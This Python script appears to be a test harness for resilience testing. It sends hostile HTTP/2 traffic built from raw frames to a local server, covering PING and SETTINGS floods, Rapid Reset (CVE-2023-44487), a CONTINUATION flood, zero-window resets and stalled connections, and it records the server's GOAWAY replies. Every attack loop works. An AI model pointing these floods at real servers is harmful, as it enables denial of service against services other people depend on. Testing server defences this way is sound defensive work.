"""One hostile or broken HTTP/2 client against a sink, with raw frames (issue 14's table).

    python3 hostile_client.py PORT ATTACK [SECONDS]

ATTACK is one of:
  ping-flood          PING frames as fast as the socket takes them; never reads
  settings-flood      empty SETTINGS frames the same way
  rapid-reset         a request, then RST_STREAM for it, in a loop (CVE-2023-44487)
  continuation-flood  HEADERS without END_HEADERS, then 100,000 empty CONTINUATION frames
  window-zero-reset   SETTINGS_INITIAL_WINDOW_SIZE 0, then requests whose answers carry a body
                      (bad device tokens), each reset: the answers wait for a window never opened
  held-reset          requests and resets (against a sink holding its answers, --latency)
  idle                the handshake, then nothing
  half-frame          the handshake, then 12 bytes of a HEADERS frame, then nothing

Each runs until the sink ends the connection, or SECONDS (default 10) pass, or the sink stops
reading (a send blocks for 2 s). Prints one JSON line: bytes sent, whether the sink stopped
reading, and the GOAWAY it sent (code, debug text) if any.
"""
import json
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TOKEN = "ab" * 32


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(pairs=()):
    return frame(4, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def request_block(encoder, token=TOKEN):
    return encoder.encode([
        (":method", "POST"), (":scheme", "http"), (":path", "/3/device/" + token),
        (":authority", "127.0.0.1"), ("apns-topic", "com.example.app"), ("apns-push-type", "alert"),
    ])


class Attack:
    def __init__(self, port, seconds):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.deadline = time.monotonic() + seconds
        self.sent = 0
        self.stopped_reading = False
        self.closed = False

    def send(self, data):
        """False once the sink closed the connection or stopped reading."""
        self.sock.settimeout(2)
        try:
            self.sock.sendall(data)
            self.sent += len(data)
            return True
        except socket.timeout:
            self.stopped_reading = True
        except OSError:
            self.closed = True
        return False

    def running(self):
        return time.monotonic() < self.deadline

    def handshake(self, pairs=()):
        self.send(PREFACE + settings(pairs) + frame(4, 1, 0))

    def goaway(self, wait):
        """Reads what the sink wrote (for up to `wait` seconds): its GOAWAY, if any."""
        data = b""
        end = time.monotonic() + wait
        self.sock.settimeout(0.5)
        while time.monotonic() < end:
            try:
                chunk = self.sock.recv(1 << 20)
            except socket.timeout:
                continue
            except OSError:
                break
            if not chunk:
                break
            data += chunk
            found = find_goaway(data)
            if found:
                return found
        return find_goaway(data)


def find_goaway(data):
    offset = 0
    while offset + 9 <= len(data):
        length = int.from_bytes(data[offset:offset + 3], "big")
        kind = data[offset + 3]
        payload = data[offset + 9:offset + 9 + length]
        if len(payload) < length:
            return None
        if kind == 7:
            code = int.from_bytes(payload[4:8], "big")
            return {"code": code, "debug": payload[8:].decode("utf-8", "replace")}
        offset += 9 + length
    return None


def run(port, attack, seconds):
    a = Attack(port, seconds)
    if attack in ("ping-flood", "settings-flood"):
        a.handshake()
        unit = frame(6, 0, 0, b"12345678") if attack == "ping-flood" else settings()
        batch = unit * (65536 // len(unit))
        while a.running() and a.sent < 200 << 20 and a.send(batch):
            pass
    elif attack in ("rapid-reset", "held-reset", "window-zero-reset"):
        a.handshake([(4, 0)] if attack == "window-zero-reset" else [])
        encoder = hpack.Encoder()
        token = "xyz" if attack == "window-zero-reset" else TOKEN
        stream = 1
        while a.running() and stream < 2**31 - 2000:
            batch = []
            for _ in range(500):
                batch.append(frame(1, 0x4 | 0x1, stream, request_block(encoder, token)))
                batch.append(frame(3, 0, stream, struct.pack(">I", 8)))
                stream += 2
            if not a.send(b"".join(batch)):
                break
    elif attack == "continuation-flood":
        a.handshake()
        encoder = hpack.Encoder()
        a.send(frame(1, 0x1, 1, request_block(encoder)))
        empty = frame(9, 0, 1)
        for _ in range(100):
            if not a.send(empty * 1000):
                break
    elif attack == "idle":
        a.handshake()
    elif attack == "half-frame":
        a.handshake()
        a.send(frame(1, 0x5, 1, request_block(hpack.Encoder()))[:12])
    else:
        sys.exit(f"unknown attack {attack}")
    remaining = max(a.deadline - time.monotonic(), 0)
    goaway = a.goaway(remaining + 3 if attack in ("idle", "half-frame") else 5)
    print(json.dumps({"attack": attack, "sent": a.sent, "stopped_reading": a.stopped_reading, "goaway": goaway}))
    a.sock.close()


if __name__ == "__main__":
    port, attack = int(sys.argv[1]), sys.argv[2]
    run(port, attack, float(sys.argv[3]) if len(sys.argv) > 3 else 10)
